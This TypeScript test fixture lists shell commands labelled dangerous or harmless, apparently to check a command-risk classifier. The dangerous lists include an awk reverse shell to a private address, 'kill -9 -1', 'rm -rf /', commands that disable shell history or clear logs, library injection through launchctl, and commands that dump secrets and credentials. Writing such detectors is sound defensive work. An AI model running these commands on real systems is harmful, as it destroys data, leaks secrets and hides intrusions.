// The fifth round's families (src/risk/rules/structure.ts, general.ts, system.ts, host.ts,
// ops.ts, backups.ts, publish.ts, secrets.ts): what the structure of a call says for programs no rule names,
// and the families widened from the tuning set's misses. Written for this project, not taken
// from the tuning set; each family has dangerous cases and harmless near misses.
import { describeFamilies, type JudgedFamilies } from "./judged.js";

const FAMILIES: JudgedFamilies = {
  "secrets printed by structure": {
    dangerous: [
      "akv-cli secret get prod-db",
      "keeper-cli get password --uid 42",
      "mysecrets secrets get STRIPE_KEY --plain",
      "bws secret get 3f1c2a",
      "bws secret list",
      "acme-vault credentials show deploy",
      "sops --decrypt deploy/secrets.yaml",
      "bw export --format csv",
      "passbolt get password 7d1e --show-secrets",
    ],
    harmless: [
      "vault secrets list",
      "mysecrets folders get",
      "acme-vault rotation-policy show",
      "sops --encrypt --in-place deploy/values.yaml",
      "bw list folders",
      "mytool config get region",
    ],
  },
  "deleted by query": {
    dangerous: [
      'atuin search --delete ""',
      "mailtool search --older-than 30d --delete",
      "logctl query 'level:debug' --purge",
    ],
    harmless: [
      "atuin search --limit 5 docker",
      "mailtool search --older-than 30d",
      "logctl query 'level:error'",
    ],
  },
  "a machine powered off or reset": {
    dangerous: [
      "ipmitool -I lanplus -H bmc1 chassis power off",
      "ipmitool power cycle",
      "ipmitool mc reset cold",
      "racadm serveraction powerdown && racadm reboot",
      "VBoxManage controlvm build-vm poweroff",
      "virsh shutdown web1",
      "pmset sleepnow",
    ],
    harmless: [
      "ipmitool chassis power status",
      "ipmitool sdr list",
      "virsh list --all",
      "pmset -g batt",
      "last reboot",
      "VBoxManage list vms",
    ],
  },
  "a network interface or address changed": {
    dangerous: [
      "tc qdisc add dev eth0 root netem loss 100%",
      "tc qdisc replace dev enp3s0 root tbf rate 1kbit burst 1 latency 1ms",
      "bridge link set dev veth1 state 0",
      "ipmitool lan set 1 ipaddr 10.0.0.77",
      "racadm set iDRAC.IPv4.Gateway 10.0.0.1 && mynet set gateway 10.0.0.254",
    ],
    harmless: ["tc qdisc show dev eth0", "tc -s qdisc ls", "bridge link show", "ipmitool lan print 1"],
  },
  "every process signalled, processes killed by what they use": {
    dangerous: [
      "kill -9 -1",
      "kill -KILL -1",
      "kill -s TERM -1",
      "kill -- -1",
      "fuser -km /home",
      "fuser -k /var/lib/postgresql/data",
    ],
    harmless: ["kill -1 4242", "kill -0 -1", "fuser -k 8080/tcp", "fuser -v /mnt/usb", "fuser -m /home"],
  },
  "package installs without privilege, and package queries": {
    dangerous: [
      "sudo apt-get install -y nginx",
      "apt-get remove -y openssh-server",
      "dpkg -i ./agent-helper.deb",
      "snap install ./tool.snap --dangerous",
      "yum history undo 12",
      "doas apk add curl",
    ],
    harmless: [
      "apt-get install -y jq",
      "apt update",
      "dnf install ripgrep",
      "pacman -Syu",
      "yum history list",
      "dnf repoquery --requires curl",
      "nix-env -qaP ripgrep",
      "nix-env -iA nixpkgs.jq",
    ],
  },
  "backups deleted through their tools": {
    dangerous: [
      "kopia snapshot delete k9f2 --delete",
      "tarsnap -d -f weekly-2024-06",
      "tarsnap --nuke",
      "restic forget latest --prune",
    ],
    harmless: [
      "kopia snapshot list",
      "tarsnap --list-archives",
      "tarsnap -c -f nightly src",
      "kopia snapshot create .",
    ],
  },
  "access granted by structure": {
    dangerous: [
      "az ad sp create-for-rbac --name ci --role Owner --scopes /subscriptions/1234",
      "mycloud iam bind --role admin --member user:eve@example.com",
      "acmectl access grant --roles editor --service-account ci@acme",
    ],
    harmless: [
      "az role assignment list --role Owner --scope /subscriptions/1234",
      "mycloud iam show --role admin --member user:eve@example.com",
      "az ad sp create-for-rbac --help",
    ],
  },
  "secret keys and credentials destroyed": {
    dangerous: [
      "gpg --delete-secret-keys ABCDEF0123456789",
      "gpg --batch --yes --delete-secret-and-public-keys dev@example.com",
      "az ad sp credential reset --id 0000-1111",
      "mycli credentials delete deploy-bot",
      "mycli delete-private-key web",
    ],
    harmless: [
      "gpg --delete-keys old@example.com",
      "gpg --list-secret-keys",
      "az ad sp credential list --id 0000-1111",
    ],
  },
  "a sub-command word is not SQL": {
    dangerous: ["mycli delete-database shop", "influx -execute 'DROP DATABASE metrics'"],
    harmless: ["mycli delete-draft 12 --note 'delete me'", "mytool show tables"],
  },
  "storage below the file system": {
    dangerous: ["nvme sanitize /dev/nvme0n1 -a 2", "blkzap --secure-erase /dev/sdb", "storcli trim /dev/sdc"],
    harmless: ["nvme smart-log /dev/nvme0n1", "nvme list", "smartctl -a /dev/sda"],
  },
  "decryption, and entries of a known store shown": {
    dangerous: [
      "lpass show --password github",
      "chamber read prod db-password",
      "age -d -i key.txt secrets.age",
      "rage --decrypt -i key.txt backup.tar.age",
      "gpg -d secrets.gpg",
      "gpg --output plain.txt --decrypt notes.gpg",
      "vaultctl decrypt deploy/prod.enc",
    ],
    harmless: [
      "gpg --verify release.tar.gz.sig",
      "lpass ls",
      "bw get template item",
      "age -e -r age1xyz -o notes.age notes.txt",
    ],
  },
  "options printing secrets in clear": {
    dangerous: [
      "pulumi stack output --show-secrets",
      "pulumi config get dbPassword --show-secrets",
      "terraform output -raw db_password",
    ],
    harmless: [
      "pulumi stack output",
      "terraform output -raw bucket_name",
      "terraform output -json",
      "doppler secrets --only-names",
    ],
  },
  "artifacts withdrawn from a registry": {
    dangerous: [
      "regctl tag delete ghcr.io/acme/shop:v1",
      "oras manifest delete ghcr.io/acme/shop:v1",
      "imgtool image rm registry.example.com:5000/app@sha256:0123456789abcdef0123",
    ],
    harmless: ["aws s3 rm s3://acme-dev/tmp/x.json", "docker rmi node:18", "regctl tag ls ghcr.io/acme/shop"],
  },
  "deletion written as a noun": {
    dangerous: [
      "aws kms schedule-key-deletion --key-id 1234 --pending-window-in-days 7",
      "mycloud schedule-project-deletion --project acme",
    ],
    harmless: ["aws rds modify-db-instance --db-instance-identifier prod-db --deletion-protection"],
  },
  "graph queries over HTTP": {
    dangerous: [
      `curl -X POST localhost:7474/db/neo4j/tx/commit -d '{"statements":[{"statement":"MATCH (n) DETACH DELETE n"}]}'`,
    ],
    harmless: [
      `curl -X POST localhost:7474/db/neo4j/tx/commit -d '{"statements":[{"statement":"MATCH (n) RETURN count(n)"}]}'`,
      `curl -X POST localhost:7474/db/neo4j/tx/commit -d '{"statements":[{"statement":"MATCH (n:User {id: 1}) DELETE n"}]}'`,
    ],
  },
  "the shell's history switched off": {
    dangerous: [
      "unset HISTFILE",
      "HISTSIZE=0",
      "export HISTFILESIZE=0",
      "set +o history",
      "export HISTFILE=/dev/null",
    ],
    harmless: ["export HISTSIZE=10000", "set -o history", "unset FOO", "set -euo pipefail"],
  },
  "sockets in awk": {
    dangerous: [
      `awk 'BEGIN {s = "/inet/tcp/0/10.0.0.9/4444"; while (1) {s |& getline c; while ((c |& getline) > 0) print $0 |& s; close(c)}}'`,
    ],
    harmless: ["awk '{print $1}' access.log"],
  },
  "simulations and defences": {
    dangerous: ["apt-get remove -y nginx", "mkfs.ext4 /dev/sdb1", "aa-teardown"],
    harmless: ["apt-get -s remove nginx", "mkfs.ext4 -n /dev/sdb1", "mkfs.xfs -N /dev/sdb", "aa-status"],
  },
  "macOS network settings (networksetup)": {
    dangerous: [
      "networksetup -setdhcp Wi-Fi",
      "networksetup -removenetworkservice 'USB LAN'",
      "networksetup -setmanual Ethernet 10.0.0.5 255.255.255.0 10.0.0.1",
      "networksetup -setairportpower en0 off",
      "networksetup -setdnsservers Wi-Fi 203.0.113.53",
    ],
    harmless: [
      "networksetup -listallnetworkservices",
      "networksetup -getinfo Wi-Fi",
      "networksetup -setairportpower en0 on",
      "networksetup -connectpppoeservice MyPPPoE",
    ],
  },
  "logs erased, journal moved": {
    dangerous: ["dmesg -c", "dmesg --read-clear", "dmesg -C", "journalctl --vacuum-size=1K"],
    harmless: ["dmesg -T", "dmesg --level=err", "journalctl --flush", "journalctl --rotate"],
  },
  "launchd's environment": {
    dangerous: [
      "launchctl setenv DYLD_INSERT_LIBRARIES /tmp/inject.dylib",
      "launchctl bootout gui/501/com.acme.agent",
    ],
    harmless: [
      "launchctl unsetenv MY_VAR",
      "launchctl setenv EDITOR vim",
      "launchctl getenv PATH",
      "launchctl list",
    ],
  },
  "credentials printed by any CLI": {
    dangerous: [
      "az acr credential show --name myacr",
      "az webapp deployment list-publishing-profiles --name shop -g rg",
      "az storage account show-connection-string --name acmedata",
      "aws ecr get-login-password --region eu-west-1",
      "kubectl config view --raw",
      "kubectl config view --minify --raw -o jsonpath='{.users[0].user.token}'",
    ],
    harmless: [
      "az ad sp credential list --id 0000-1111",
      "aws secretsmanager get-random-password --password-length 32",
      "kubectl config view",
      "gh secret list",
    ],
  },
  "secrets and access in containers, registries and package registries": {
    dangerous: [
      "docker secret rm db_password",
      "gcloud container images delete gcr.io/acme/shop",
      "npm access grant read-write acme:devs @acme/shop",
      "pkgctl access grant --team devs shop",
    ],
    harmless: [
      "docker secret ls",
      "gcloud container images list-tags gcr.io/acme/shop",
      "npm access list packages",
    ],
  },
  "local lists and installs are routine": {
    dangerous: ["helm uninstall shop -n production"],
    harmless: [
      "helm repo remove stable",
      "ansible-galaxy role remove geerlingguy.nginx",
      "ansible-galaxy collection install community.general",
      "pip cache purge",
      "dscacheutil -flushcache",
    ],
  },
  "a verb written together with its object": {
    dangerous: [
      "hdiutil erasekeys secure.dmg",
      "vmtool deletesnapshot build-vm base",
      "mycli removeall --project shop",
    ],
    harmless: ["hdiutil info", "vmtool listsnapshots build-vm"],
  },
  "arch runs a command": {
    dangerous: ["arch -arm64 rm -rf /", "arch -x86_64 sudo apt-get install -y nginx"],
    harmless: ["arch", "arch -arm64 npm test"],
  },
};

describeFamilies(FAMILIES);
